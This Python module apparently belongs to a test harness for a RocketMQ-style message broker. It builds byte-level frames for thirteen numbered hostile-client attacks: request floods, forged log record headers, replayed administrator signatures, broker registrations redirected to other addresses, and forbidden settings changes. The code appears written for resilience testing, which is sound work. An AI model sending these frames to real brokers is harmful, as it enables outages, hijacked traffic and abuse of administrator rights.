"""Attacks of a hostile client at full speed, with frames built byte by byte.

Each attack is an endless sequence of frames for the connections that running.py keeps busy. It gets a `World`
(addresses, rules) and can first send requests on a separate connection.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from delaymq_testing.hostile.frames import Fields, batch_entry, framed, frames_of, json_header, signed

HOST = "198.51.100.1"
"""A documentation address (RFC 5737): a loopback address would make administrators' requests trusted."""
ORDINARY = ("hostile-key", "hostile-secret")
ADMINISTRATOR = ("administrator-key", "administrator-secret")
SYSTEM_BUSY = 2
RECORD_HEAD_BYTES = 88
"""Size of a record before its body, if both hosts have IPv4 addresses."""
LARGEST_BODY = 4 * 1024 * 1024


@dataclass
class World:
    """Parameters of an attack."""

    host: str
    port: int
    namesrv_port: int
    rules: Path
    accepted: int = 0
    """Number of responses with code 0 to requests that should be rejected."""
    notes: list[str] = field(default_factory=list)

    def frame(self, code: int, fields: Fields = (), body: bytes = b"", *, key: tuple[str, str] = ORDINARY) -> bytes:
        """Return a request signed as by RocketMQ's clients."""
        return framed(json_header(code, signed(*key, fields, body), 1, 0, language="JAVA", version=407), body)

    def send(self, topic: str, body: bytes, properties: str = "", **fields: str) -> bytes:
        """Return a send request (310)."""
        pairs = {"a": "P", "b": topic, "c": "TBW102", "d": "1", "e": "0", "f": "0", "g": "0", "h": "0", "i": properties}
        return self.frame(310, [*(pairs | fields).items()], body)

    def pull(self, topic: str, group: str, queue_id: int = 0, *, wait_ms: int = 0, expression: str = "") -> bytes:
        """Return a pull request (11) of the next message; with an expression, by SQL92 from the beginning."""
        offset = 0 if expression else 1 << 40
        pairs = {"consumerGroup": group, "topic": topic, "queueId": queue_id, "queueOffset": offset, "maxMsgNums": 32}
        pairs |= {"sysFlag": 6, "commitOffset": 0, "suspendTimeoutMillis": wait_ms, "subVersion": 1}
        kind = "SQL92" if expression else "TAG"
        named = {"subscription": expression or "*", "expressionType": kind}
        return self.frame(11, [(name, str(value)) for name, value in (pairs | named).items()])

    def ask(self, frame: bytes) -> tuple[int, dict[str, str], bytes]:
        """Return code, fields and body of one response, over a separate connection; a busy broker is retried."""
        for _ in range(100):
            with socket.create_connection((self.host, self.port), timeout=30) as peer:
                peer.sendall(frame)
                data = b""
                while not (answers := frames_of(data)):
                    part = peer.recv(1 << 20)
                    if not part:
                        raise ConnectionResetError("the broker ended the connection")
                    data += part
            if answers[0][1] != SYSTEM_BUSY:
                break
            time.sleep(0.05)
        return answers[0][1:]


Frames = Iterator[bytes]
Attack = Callable[[World], Frames]


def nothing(world: World) -> Frames:
    """Baseline without an attack."""
    while True:
        time.sleep(0.2)
        yield b""


def spin(world: World) -> Frames:
    """Busy loop on the hostile client's processor without requests: the cost of sharing the processor."""
    while True:
        sum(range(10_000))
        yield b""


def offsets(world: World) -> Frames:
    """1: commits for queues that do not exist, then clones of them."""
    for queue_id in range(16_384):
        fields = {"consumerGroup": "g0", "topic": "Nowhere", "queueId": str(queue_id), "commitOffset": str(2**62)}
        yield world.frame(15, [*fields.items()])
    for number in itertools.count():
        fields = {"srcGroup": "g0", "destGroup": f"g{number}", "topic": "Orders", "offline": "true"}
        yield world.frame(314, [*fields.items()])
        yield world.frame(314, [*(fields | {"topic": "Nowhere"}).items()])


def _forged_head(size: int, place: int) -> bytes:
    """Return the first bytes of a record of `size` bytes at this offset of the log; the rest of it is zeros."""
    layout, host = ">iIIiiqqiq8sq8siqi", bytes(8)
    return struct.pack(layout, size, 0xDAA320A7, 0, 0, 0, 0, place, 0, 0, host, 0, host, 0, 0, size - 91)


def forged_records(world: World) -> Frames:
    """2: offsets into a body that contains the header of a huge record."""

    def stored(body: bytes) -> int:
        return int(world.ask(world.send("Orders", body))[1]["msgId"][16:], 16)

    size = 60 << 20  # within a segment of the log
    places = []
    for _ in range(20):
        first, second = stored(bytes(500)), stored(bytes(500))
        place = second + (second - first) + RECORD_HEAD_BYTES
        if stored(_forged_head(size, place).ljust(500, b"\0")) + RECORD_HEAD_BYTES == place:
            places.append(place)
    filler = world.send("Orders", bytes(LARGEST_BODY - 1_000))
    for _ in range(size // LARGEST_BODY + 3):
        world.ask(filler)
    codes = [(33, "offset"), (36, "offset"), (37, "commitLogOffset")]
    rest = {"group": "readers", "delayLevel": "0", "producerGroup": "P", "tranStateTableOffset": "0"}
    rest |= {"commitOrRollback": "8", "msgId": "0" * 32}
    frames = [world.frame(code, [*(rest | {name: str(place)}).items()]) for code, name in codes for place in places]
    yield from itertools.cycle(frames)


def replayed_signatures(world: World) -> Frames:
    """3: captured requests of an administrator with other request codes, and their text divided into other fields.

    An attacker may have created topics with these names; a dashboard queries the statistics (202) of all topics.
    """
    group = json.dumps({"groupName": "made"}).encode()
    frames = [framed(json_header(50, signed(*ADMINISTRATOR, [], group), 1), group)]
    for topic, code, fields in (
        ("stolen01trueSecret77", 50, [("accessKey", "stolen01"), ("admin", "true"), ("secretKey", "Secret77")]),
        (
            "stolen02SUBSecret77",
            50,
            [("accessKey", "stolen02"), ("defaultTopicPerm", "SUB"), ("secretKey", "Secret77")],
        ),
        ("honest-keySecret77", 50, [("accessKey", "honest-key"), ("secretKey", "Secret77")]),
        ("xxHonest", 215, [("bname", "xx"), ("topic", "Honest")]),
        ("xxHonest", 207, [("bname", "xx"), ("groupName", "Honest")]),
    ):
        captured = dict(signed(*ADMINISTRATOR, [("topic", topic)], b""))
        proof = [(name, captured[name]) for name in ("AccessKey", "Signature")]
        frames.append(framed(json_header(code, [*proof, *fields], 1)))
    yield from itertools.cycle(frames)


def stolen_names(world: World) -> Frames:
    """4: registrations of the honest client's broker at the attacker's addresses, sent to the NameServer."""
    version = {"counter": 2**40, "timestamp": 1}
    topics = {"Honest": {"topicName": "Honest", "readQueueNums": 1, "writeQueueNums": 1, "perm": 6}}
    wrapper = {"dataVersion": version, "topicConfigTable": topics}
    body = json.dumps({"topicConfigSerializeWrapper": wrapper, "filterServerList": []}).encode()
    for number in itertools.count():
        fields = {"brokerName": "broker-a", "brokerAddr": f"203.0.113.{number % 200}:10911", "brokerId": "0"}
        fields |= {"clusterName": "DefaultCluster", "haServerAddr": "203.0.113.1:10912"}
        yield framed(json_header(103, [*fields.items()], 1, 0), body)


def heartbeats(world: World) -> Frames:
    """5: heartbeats of 3.6 MB."""
    chance = random.Random(5)
    for number in itertools.count():
        subscriptions = [
            {"topic": f"t{number % 40}-{at}-{chance.randrange(10**9)}", "subString": "a||b", "subVersion": at}
            for at in range(36_000)
        ]
        consumer = {"groupName": f"h{number % 40}", "subscriptionDataSet": subscriptions}
        body = json.dumps({"clientID": f"c{number % 40}", "consumerDataSet": [consumer]}).encode()
        yield world.frame(34, [], body[:LARGEST_BODY])


def denied_dead_letters(world: World) -> Frames:
    """6: pulls of dead letters of a group that the account is denied."""
    topics = ["%DLQ%honest", "%RETRY%honest"]
    yield from itertools.cycle([world.pull(topic, "readers") for topic in topics])


def held_pulls(world: World) -> Frames:
    """7: an endless number of held pulls, and occasionally a message for all of them."""
    world.ask(world.send("Orders", b"x"))
    waiting = world.pull("Orders", "readers", wait_ms=60_000)
    waking = world.send("Orders", b"x")
    for number in itertools.count(1):
        yield waking if number % 100_000 == 0 else waiting


def batches(world: World) -> Frames:
    """8: batches of 90,000 empty messages."""
    body = batch_entry(b"") * 90_000
    pairs = {"a": "P", "b": "Orders", "c": "TBW102", "d": "1", "e": "0", "f": "0", "g": "0", "h": "0", "m": "true"}
    yield from itertools.cycle([world.frame(320, [*pairs.items()], body)])


def settings(world: World) -> Frames:
    """9: an administrator's changes of settings that only the configuration file may set."""
    texts = (b"namesrvAddr=203.0.113.1:9876\n", b"brokerIP1=203.0.113.1\n", b"brokerName=other\n")
    yield from itertools.cycle([world.frame(25, [], text, key=ADMINISTRATOR) for text in texts])


def retry_topics(world: World) -> Frames:
    """10: messages whose properties claim that they belong to another topic."""
    yield from itertools.cycle([world.send("Orders", b"x", "RETRY_TOPIC\x01Honest")])


def topics(world: World) -> Frames:
    """11: messages, each to a new topic."""
    for number in itertools.count():
        yield world.send(f"Made{number}", b"x", d="16")


def revoked(world: World) -> Frames:
    """12: removal and restoration, in the rule file, of an account with held pulls."""
    text = world.rules.read_text()
    account = "- {accessKey: revoked-key, secretKey: revoked-secret, defaultTopicPerm: SUB, defaultGroupPerm: SUB}\n"
    world.ask(world.send("Orders", b"x"))
    for with_account in itertools.cycle((True, False)):
        temporary = world.rules.with_suffix(".new")
        temporary.write_text(text + account if with_account else text)
        os.replace(temporary, world.rules)
        until = time.monotonic() + 4
        while time.monotonic() < until:
            yield world.pull("Orders", "readers", wait_ms=20_000)


def collisions(world: World) -> Frames:
    """13: keys with the same hash and queries for them, and pulls with an individual SQL92 expression each."""
    words = ["".join(pair) for pair in itertools.product(("Aa", "BB"), repeat=12)]
    found = {"topic": "Orders", "key": words[0], "maxNum": "64", "beginTimestamp": "0", "endTimestamp": str(2**62)}
    query = world.frame(12, [*found.items()])
    for number in itertools.count():
        at = number % 128 * 32
        yield world.send("Orders", b"x", "KEYS\x01" + " ".join(words[at : at + 32]))
        yield query
        terms = " OR ".join(f"a{number}_{at} BETWEEN {at} AND {number}" for at in range(100))
        yield world.pull("Orders", "readers", expression=terms)


def statistics(world: World) -> Frames:
    """Queries for all queues of a topic that every broker has, and for all groups: small requests, large responses."""
    of_topic = world.frame(202, [("topic", "BenchmarkTest")])
    of_group = world.frame(208, [("consumerGroup", "honest"), ("topic", "BenchmarkTest")])
    yield from itertools.cycle([of_topic, of_group, world.frame(317, [("isOrder", "false")])])


ATTACKS: dict[str, Attack] = {
    "nothing": nothing,
    "spin": spin,
    "1-offsets": offsets,
    "2-forged-records": forged_records,
    "3-replayed-signatures": replayed_signatures,
    "4-stolen-names": stolen_names,
    "5-heartbeats": heartbeats,
    "6-denied-dead-letters": denied_dead_letters,
    "7-held-pulls": held_pulls,
    "8-batches": batches,
    "9-settings": settings,
    "10-retry-topics": retry_topics,
    "11-topics": topics,
    "12-revoked": revoked,
    "13-collisions": collisions,
    "statistics": statistics,
}
"""Attacks by name. Number 14 concerns the operator and involves no client."""
